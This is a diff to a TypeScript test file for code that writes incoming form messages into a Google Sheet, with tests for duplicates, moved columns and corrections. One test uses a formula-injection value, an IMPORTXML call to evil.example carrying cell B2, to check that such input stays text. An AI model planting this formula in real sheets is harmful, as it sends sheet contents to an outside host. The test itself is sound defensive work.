@@ -18,9 +18,14 @@ function aGoogleSheet() {
   const sheet = {
     getLastColumn: () => rows[0]?.length ?? 0,
     createTextFinder: (words: string) => ({
-      matchEntireCell: () => ({ findNext: () => (rows.flat().includes(words) ? {} : null) }),
+      findNext: () => {
+        const row = rows.findIndex((cells) => cells.some((cell) => String(cell).includes(words)))
+        const value = rows[row]?.find((cell) => String(cell).includes(words))
+        return row < 0 ? null : { getRow: () => row + 1, getValue: () => value }
+      },
     }),
-    getRange: (row: number, column: number, height: number, width: number) => ({
+    getRange: (row: number, column: number, height = 1, width = 1) => ({
+      setValue: (value: string) => void ((rows[row - 1] ??= [])[column - 1] = typed(value)),
       getValues: () =>
         rows.slice(row - 1, row - 1 + height).map((cells) => cells.slice(column - 1, column - 1 + width)),
       setValues: ([values = []]: string[][]) => void (rows[row - 1] ??= []).push(...values.map(typed)),
@@ -39,14 +44,15 @@ function aGoogleSheet() {
 }
 
 const TIME = '2026-11-22T04:14:47.118Z'
-const MESSAGE = { id: 'msg_1', timestamp: TIME, data: { name: 'Asha Rao', whatsapp: '+919876543210', ref: null } }
+const ID = 'msg_0b0f5a3e-6b7e-4c4e-9d0a-2f6f0f6d3c55'
+const MESSAGE = { id: ID, timestamp: TIME, data: { name: 'Asha Rao', whatsapp: '+919876543210', ref: null } }
 
 test('a message becomes a row of text below the names of its values', () => {
   const { rows, run } = aGoogleSheet()
   run(MESSAGE)
   expect(rows).toEqual([
     ['id', 'received_at', 'name', 'whatsapp', 'ref'],
-    ['msg_1', TIME, 'Asha Rao', '+919876543210', ''],
+    [ID, TIME, 'Asha Rao', '+919876543210', ''],
   ])
 })
 
@@ -54,12 +60,12 @@ test('a value that a sheet would run as a formula stays text', () => {
   const { rows, run } = aGoogleSheet()
   const name = '=IMPORTXML("https://evil.example/?"&B2,"//a")'
   run({ ...MESSAGE, data: { name } })
-  expect(rows[1]).toEqual(['msg_1', TIME, name])
+  expect(rows[1]).toEqual([ID, TIME, name])
 })
 
 test('a message that comes again is left out, and another one added', () => {
   const { rows, run } = aGoogleSheet()
-  for (const id of ['msg_1', 'msg_1', 'msg_2']) run({ ...MESSAGE, id })
+  for (const id of [ID, ID, ID.replaceAll('5', '6')]) run({ ...MESSAGE, id })
   expect(rows).toHaveLength(3)
 })
 
@@ -69,6 +75,14 @@ test('columns that were moved get their own values, and those of the owner none'
   run(MESSAGE)
   expect(rows).toEqual([
     ['called by', 'name', 'id', 'received_at', 'whatsapp', 'ref'],
-    ['', 'Asha Rao', 'msg_1', TIME, '+919876543210', ''],
+    ['', 'Asha Rao', ID, TIME, '+919876543210', ''],
   ])
+})
+
+test('a correction replaces the values of its row, keeps what the owner wrote, and is not undone by what comes late', () => {
+  const { rows, run } = aGoogleSheet()
+  rows.push(['called by', 'name', 'id', 'received_at'])
+  rows.push(['Ravi', 'Asha Rao', ID, TIME])
+  for (const part of ['_2', '_1', '']) run({ id: ID + part, timestamp: TIME, data: { name: `Uma${part}` } })
+  expect(rows.slice(1)).toEqual([['Ravi', 'Uma_2', `${ID}_2`, TIME]])
 })
